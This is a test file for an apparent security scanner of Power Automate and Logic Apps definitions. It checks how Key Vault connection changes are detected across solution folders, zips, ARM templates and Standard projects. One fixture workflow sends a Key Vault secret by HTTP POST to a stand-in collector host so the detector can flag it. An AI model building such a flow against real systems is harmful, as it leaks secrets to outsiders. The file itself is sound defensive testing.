import { describe, expect, it } from '@jest/globals';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { diffTargets } from '../../src/engine/scan.js';
import type { Report } from '../../src/findings/types.js';
import { flowFile, getSecret } from '../helpers/flow-builders.js';
import { customizationsXml, makeZip, SOLUTION_XML } from '../sources/source-test-kit.js';

/**
 * Connection references by identity and `changedFlows` as changed definitions (SPEC §1, §4), through the
 * engine's own readers on real folders, zips and ARM templates written to a temp directory.
 */
type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
const GUID = '0A1B2C3D-0000-4000-8000-00000000000A';
const kv = '/providers/Microsoft.PowerApps/apis/shared_keyvault';

/** A solution flow whose Key Vault action reads through connection key `key` naming `logical`. */
function solutionFlow(key: string, logical: string): Json {
  const f: Json = flowFile({
    Get_secret: getSecret('OpenApiConnection', 'api-key', { secureOutputs: true }),
  });
  f.properties.connectionReferences = {
    [key]: {
      runtimeSource: 'invoker',
      connection: { connectionReferenceLogicalName: logical },
      api: { name: 'shared_keyvault' },
    },
  };
  f.properties.definition.actions.Get_secret.inputs.host.connectionName = key;
  return f;
}

/** An ARM template whose workflow reads through `$connections[key]` bound to connection `conn`. */
function armTemplate(key: string, conn: string): Json {
  const action: Json = getSecret('ApiConnection', 'api-key', { secureOutputs: true });
  action.inputs.host.connection.name = `@parameters('$connections')['${key}']['connectionId']`;
  return {
    $schema: 'https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#',
    contentVersion: '1.0.0.0',
    resources: [
      {
        type: 'Microsoft.Logic/workflows',
        apiVersion: '2019-05-01',
        name: 'rotate',
        location: 'westeurope',
        properties: {
          definition: {
            $schema:
              'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#',
            contentVersion: '1.0.0.0',
            parameters: { $connections: { type: 'Object', defaultValue: {} } },
            triggers: { manual: { type: 'Request', kind: 'Http', inputs: { schema: {} } } },
            actions: { Get_secret: action },
          },
          parameters: {
            $connections: {
              value: {
                [key]: {
                  connectionId: `/subscriptions/s/resourceGroups/rg/providers/Microsoft.Web/connections/${conn}`,
                  connectionName: conn,
                  id: '/subscriptions/s/providers/Microsoft.Web/locations/westeurope/managedApis/keyvault',
                },
              },
            },
          },
        },
      },
    ],
  };
}

const text = (o: Json, indent = 2) => JSON.stringify(o, null, indent);
type Layout = (dir: string, side: string, flow: Json) => Promise<void>;

const unpacked: Layout = async (dir, side, flow) => {
  mkdirSync(path.join(dir, side, 'Workflows'), { recursive: true });
  writeFileSync(path.join(dir, side, 'Workflows', `Rotate-${GUID}.json`), text(flow));
};
const packed: Layout = async (dir, side, flow) => {
  mkdirSync(path.join(dir, side), { recursive: true });
  const file = `Workflows/Rotate-${GUID}.json`;
  const zip = await makeZip([
    ['solution.xml', SOLUTION_XML],
    [
      'customizations.xml',
      customizationsXml(
        [{ id: GUID, name: 'Rotate', file, category: 5 }],
        [
          { logicalName: 'fg_kv_a', connectorId: kv },
          { logicalName: 'fg_kv_b', connectorId: kv },
        ],
      ),
    ],
    [file, text(flow)],
  ]);
  writeFileSync(path.join(dir, side, 'solution.zip'), zip);
};
const arm: Layout = async (dir, side, template) => {
  mkdirSync(path.join(dir, side), { recursive: true });
  writeFileSync(path.join(dir, side, 'logicapp.json'), text(template));
};

async function diff(layout: Layout, base: Json, head: Json): Promise<Report> {
  const dir = mkdtempSync(path.join(tmpdir(), 'fg-connid-'));
  await layout(dir, 'base', base);
  await layout(dir, 'head', head);
  return diffTargets({ cwd: dir, paths: [], config: {}, failOn: 'high', old: 'base', new: 'head' });
}
const fg140 = (r: Report) => r.findings.filter((f) => f.ruleId === 'FG140' && f.status === 'new');

describe.each([
  ['unpacked solution', unpacked],
  ['packed solution zip', packed],
])('connection references by identity (%s)', (_name, layout) => {
  it('renaming the key of the same reference is no change: no FG140, not in changedFlows', async () => {
    const r = await diff(
      layout,
      solutionFlow('shared_keyvault', 'fg_kv_a'),
      solutionFlow('shared_keyvault_1', 'fg_kv_a'),
    );
    expect(fg140(r)).toEqual([]);
    expect(r.summary.changedFlows).toBe(0);
  });

  it('the same key naming another reference is a change: a secret source moved is FG140 high', async () => {
    const r = await diff(
      layout,
      solutionFlow('shared_keyvault', 'fg_kv_a'),
      solutionFlow('shared_keyvault', 'fg_kv_b'),
    );
    expect(fg140(r).map((f) => [f.action, f.severity])).toEqual([['Get_secret', 'high']]);
    expect(fg140(r)[0].message).toContain('fg_kv_b');
    expect(r.summary.changedFlows).toBe(1);
  });
});

describe('connection references by identity (ARM template, $connections parameter values)', () => {
  it('renaming the $connections key bound to the same connection is no change', async () => {
    const r = await diff(arm, armTemplate('keyvault', 'kv-prod'), armTemplate('keyvault_1', 'kv-prod'));
    expect(fg140(r)).toEqual([]);
    expect(r.summary.changedFlows).toBe(0);
  });

  it('the same key bound to another connection moves the secret source: FG140 high', async () => {
    const r = await diff(arm, armTemplate('keyvault', 'kv-prod'), armTemplate('keyvault', 'kv-attacker'));
    expect(fg140(r).map((f) => [f.action, f.severity])).toEqual([['Get_secret', 'high']]);
    expect(r.summary.changedFlows).toBe(1);
  });
});

/** A Logic Apps Standard project: connections.json entry `key` → managed connection `conn`, one workflow. */
function standardProject(key: string, conn: string, secureOutputs = true, send = true): Json {
  const action: Json = getSecret('ApiConnection', 'api-key', { secureOutputs });
  action.inputs.host.connection = { referenceName: key };
  return {
    connections: {
      managedApiConnections: {
        [key]: {
          api: { id: '/subscriptions/s/providers/Microsoft.Web/locations/westeurope/managedApis/keyvault' },
          connection: {
            id: `/subscriptions/s/resourceGroups/rg/providers/Microsoft.Web/connections/${conn}`,
          },
          authentication: { type: 'ManagedServiceIdentity' },
        },
      },
    },
    workflow: {
      definition: {
        $schema:
          'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#',
        contentVersion: '1.0.0.0',
        triggers: { manual: { type: 'Request', kind: 'Http', inputs: {} } },
        actions: {
          Get_secret: action,
          ...(send
            ? {
                Send: {
                  type: 'Http',
                  runAfter: { Get_secret: ['Succeeded'] },
                  inputs: {
                    method: 'POST',
                    uri: 'https://collector.example/in',
                    body: "@body('Get_secret')?['value']",
                  },
                },
              }
            : {}),
        },
      },
      kind: 'Stateful',
    },
  };
}
const standard: Layout = async (dir, side, project) => {
  mkdirSync(path.join(dir, side, 'rotate'), { recursive: true });
  writeFileSync(path.join(dir, side, 'host.json'), text({ version: '2.0' }));
  writeFileSync(path.join(dir, side, 'connections.json'), text(project.connections));
  writeFileSync(path.join(dir, side, 'rotate', 'workflow.json'), text(project.workflow));
};

describe('connection references by identity (Logic Apps Standard, connections.json)', () => {
  it('a managed connection named by host.connection.referenceName is the connector it declares', async () => {
    const r = await diff(
      standard,
      standardProject('keyvault', 'kv-prod', true, false),
      standardProject('keyvault', 'kv-prod', false),
    );
    const fresh = r.findings.filter((f) => f.status === 'new').map((f) => [f.ruleId, f.action]);
    expect(fresh).toEqual(expect.arrayContaining([['FG101', 'Get_secret']]));
    // The secret now leaves through the HTTP action: found because the Key Vault action is known as one.
    expect(r.findings.filter((f) => f.ruleId === 'FG121').map((f) => [f.action, f.status])).toEqual([
      ['Send', 'new'],
    ]);
  });

  it("renaming the connections.json key (and the workflow's referenceName) of the same connection is no change", async () => {
    const r = await diff(
      standard,
      standardProject('keyvault', 'kv-prod'),
      standardProject('keyvault_2', 'kv-prod'),
    );
    expect(fg140(r)).toEqual([]);
    expect(r.summary.changedFlows).toBe(0);
  });

  it('the same key pointed at another connection moves the secret source: FG140 high', async () => {
    const r = await diff(
      standard,
      standardProject('keyvault', 'kv-prod'),
      standardProject('keyvault', 'kv-attacker'),
    );
    expect(fg140(r).map((f) => [f.action, f.severity])).toEqual([['Get_secret', 'high']]);
    expect(fg140(r)[0].message).toContain('kv-attacker');
    expect(r.summary.changedFlows).toBe(1);
  });
});

describe('changedFlows counts changed definitions, not re-serialisation', () => {
  const flow = solutionFlow('shared_keyvault', 'fg_kv_a');
  /** The same object with every object's keys in reverse order. */
  const reversed = (v: unknown): unknown =>
    Array.isArray(v)
      ? v.map(reversed)
      : v && typeof v === 'object'
        ? Object.fromEntries(
            Object.entries(v)
              .reverse()
              .map(([k, x]) => [k, reversed(x)]),
          )
        : v;

  it('key order, minified text, BOM, CRLF and another file name for the same GUID', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'fg-reserial-'));
    mkdirSync(path.join(dir, 'base', 'Workflows'), { recursive: true });
    mkdirSync(path.join(dir, 'head', 'Workflows'), { recursive: true });
    writeFileSync(path.join(dir, 'base', 'Workflows', `Rotate-${GUID}.json`), text(flow));
    const head = '\uFEFF' + JSON.stringify(reversed(flow), null, 4).replace(/\n/g, '\r\n');
    writeFileSync(path.join(dir, 'head', 'Workflows', `RotateKeysRenamed-${GUID}.json`), head);
    const r = await diffTargets({
      cwd: dir,
      paths: [],
      config: {},
      failOn: 'high',
      old: 'base',
      new: 'head',
    });
    expect(r.summary.flows).toBe(1);
    expect(r.summary.changedFlows).toBe(0);
    expect(r.findings.filter((f) => f.status === 'new')).toEqual([]);
  });

  it('a real edit still counts', async () => {
    const edited = structuredClone(flow);
    edited.properties.definition.actions.Get_secret.inputs.parameters.secretName = 'other-key';
    expect((await diff(unpacked, flow, edited)).summary.changedFlows).toBe(1);
  });
});
